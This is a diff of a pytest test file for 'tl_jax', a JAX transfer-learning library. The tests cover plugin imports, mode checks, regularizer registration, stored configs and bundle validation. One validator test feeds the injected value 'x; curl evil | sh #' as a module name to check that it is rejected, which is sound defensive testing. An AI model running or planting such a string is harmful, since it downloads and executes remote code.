@@ -1,21 +1,31 @@
 """One of each of what a user may add, from a module outside the package: in Python, and by --import."""
 
+import gc
 import json
 import os
 import subprocess
 import sys
 import textwrap
+import weakref
 from pathlib import Path
 
+import jax.numpy as jnp
 import numpy as np
 import pytest
 
+from tests.tasks import small
+from tl_jax.config import recipe, stored
 from tl_jax.data.registry import DATASETS
 from tl_jax.models.registry import MODELS
+from tl_jax.pretrained import formats
+from tl_jax.train import workdir
 from tl_jax.train.task import TASKS
+from tl_jax.transfer import regularizers
 from tl_jax.transfer.methods import METHODS
 from tl_jax.transfer.regularizers import REGULARIZERS
 from tl_jax.transferability.registry import SCORES
+from tl_jax.utils import plugins
+from tl_jax.utils.errors import UserError
 
 ROOT = Path(__file__).parents[1]
 REGISTRIES = (MODELS, TASKS, METHODS, REGULARIZERS, SCORES, *DATASETS.values())
@@ -142,7 +152,10 @@ def test_all_of_it_works_on_the_command_line(home):
     # A run and its bundle name the module that they need, and never import it.
     for mode in ("eval", "export"):
         line = run(home, *MAIN, f"--mode={mode}", "--workdir=run", code=2)
-        assert "error: run was made with modules of its user's; pass --import=own_plugin" in line
+        assert (
+            "error: run needs modules of its own, own_plugin: import them first in Python, or pass --import=own_plugin"
+            in line
+        )
         run(home, *MAIN, "--import=own_plugin.py", f"--mode={mode}", "--workdir=run")
     load = "from tl_jax import pretrained; "
     load += "print(pretrained.load(source='tl_jax', path='run/export').spec.model)"
@@ -179,9 +192,6 @@ def test_all_of_it_works_in_python(home):
     ],
 )
 def test_a_module_that_cannot_be_imported_is_one_line(tmp_path, text, message):
-    from tl_jax.utils import plugins
-    from tl_jax.utils.errors import UserError
-
     (tmp_path / "broken.py").write_text(text)
     try:
         with pytest.raises(UserError, match="--import=.*broken.py") as error:
@@ -196,8 +206,6 @@ def test_a_module_that_cannot_be_imported_is_one_line(tmp_path, text, message):
 
 @pytest.mark.fast
 def test_flags_of_imports_are_taken_out_wherever_they_stand():
-    from tl_jax.utils import plugins
-
     taken = plugins.take_imports(["run.py", "--mode=train", "--import=a", "--import", "b.py", "-import=c", "import=d"])
     assert taken == (["run.py", "--mode=train", "import=d"], ["a", "b.py", "c"])
 
@@ -206,3 +214,86 @@ def test_flags_of_imports_are_taken_out_wherever_they_stand():
 def test_every_entry_knows_its_module():
     for registry in REGISTRIES:
         assert {registry.module(name).partition(".")[0] for name in registry} == {"tl_jax"}
+
+
+@pytest.mark.fast
+@pytest.mark.parametrize(
+    "mode,able",
+    [
+        ("predict", {"image", "detection", "faces", "text", "tokens"}),
+        ("explain", {"image"}),
+        ("play", {"policy"}),
+        ("preview", set(TASKS)),
+    ],
+)
+def test_a_kind_without_a_mode_says_so_before_anything_is_loaded(mode, able):
+    for kind, cls in TASKS.items():
+        if kind in able:
+            cls.check_mode(mode)
+        else:
+            with pytest.raises(UserError, match=f"--mode={mode} is for runs with .*this one has config.task={kind}"):
+                cls.check_mode(mode)
+
+
+@pytest.mark.fast
+def test_a_file_that_has_the_name_of_another_module_is_refused(tmp_path):
+    (tmp_path / "random.py").write_text("")
+    with pytest.raises(UserError, match="random is another module here .*; rename the file"):
+        plugins.import_modules([str(tmp_path / "random.py")])
+    sys.path.remove(str(tmp_path))
+
+
+@pytest.mark.fast
+def test_a_term_that_is_registered_anew_gets_a_program_of_its_own():
+    with REGULARIZERS.temporary():
+        made = []
+        for factor in (1.0, 2.0):
+
+            def term(inputs, factor=factor):
+                return jnp.float32(factor)
+
+            regularizers.register_regularizer("own_again", "for tests")(term)
+            chosen = regularizers.Regularize.of({"own_again": 3.0})
+            made.append((chosen, float(regularizers.penalty(chosen, {}, {}, {}, {}, {}))))
+        assert [value for _, value in made] == [3.0, 6.0] and made[0][0] != made[1][0]
+
+
+@pytest.mark.fast
+@pytest.mark.parametrize("name", ["mixup", "dropout", "a.b", "endpoints"])
+def test_a_regularizer_cannot_take_the_name_of_another_field(name):
+    with pytest.raises(UserError, match=f"regularizer '{name}': the name is taken"):
+        regularizers.register_regularizer(name, "")
+
+
+@pytest.mark.fast
+def test_a_run_does_not_need_a_module_that_it_did_not_use(tmp_path):
+    """A registered term is in the configuration of each run, off; without its module the run is read as before."""
+    with REGULARIZERS.temporary():
+        regularizers.register_regularizer("own_unused", "for tests")(lambda inputs: jnp.zeros(()))
+        config = recipe.get_config()
+        assert config.regularize.own_unused == 0.0
+        (tmp_path / "config.json").write_text(json.dumps(config.to_dict()))
+    again = stored.get_config(str(tmp_path))
+    assert not workdir.differences(config.to_dict(), again.to_dict()) and "own_unused" not in again.regularize
+
+
+@pytest.mark.fast
+@pytest.mark.parametrize("modules", [["x; curl evil | sh #"], ["a", 1], "a", {"a": 1}, ["\x1b[31m"], [""]])
+def test_modules_of_a_bundle_are_names_of_modules(tmp_path, modules):
+    content = {"format": "tl_jax bundle", "version": 1, "model": "resnet8", "task": "image", "files": {}}
+    (tmp_path / "bundle.json").write_text(json.dumps({**content, "modules": modules}))
+    with pytest.raises(UserError, match="modules is .*not a list of names of modules"):
+        formats.read_bundle(tmp_path)
+    (tmp_path / "bundle.json").write_text(json.dumps({**content, "modules": None}))
+    assert formats.read_bundle(tmp_path)["model"] == "resnet8"
+
+
+@pytest.mark.fast
+def test_a_task_lets_go_of_its_data():
+    """No cycle of references: what a run has loaded is freed with it, not at the next collection of garbage."""
+    gc.disable()
+    try:
+        gone = weakref.ref(small.task())
+        assert gone() is None
+    finally:
+        gc.enable()
